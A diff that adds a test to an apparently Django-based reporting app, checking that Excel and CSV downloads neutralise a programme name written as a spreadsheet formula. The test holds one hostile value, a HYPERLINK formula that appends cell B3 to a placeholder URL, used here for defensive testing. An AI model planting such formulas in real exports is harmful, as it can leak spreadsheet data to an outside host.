@@ -201,3 +201,19 @@ def test_management_of_another_job_centre_sees_none_of_these_figures(cast, login
     assert "Neustart Beruf" not in text
     # Her own filter list offers only her centre's programmes: ours is an invalid choice.
     assert session.get(PAGE, {"projekt": world.programmes[1].pk}).status_code == 400
+
+
+def test_downloads_keep_a_formula_named_programme_as_text(cast, login, world):
+    """Issue 12, point 7: a programme named like a formula is text in Excel and CSV."""
+    hostile = '=HYPERLINK("http://x"&B3,"Details")'
+    cast.programme.name = hostile
+    cast.programme.save(update_fields=["name"])
+    browser = login(cast.maria)
+    book = load_workbook(io.BytesIO(browser.get(DOWNLOADS[0]).content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row
+                if c.data_type == "f"]
+    text = browser.get(DOWNLOADS[1]).content.decode("utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text), delimiter=";") for f in row]
+    assert "'" + hostile in fields and hostile not in fields
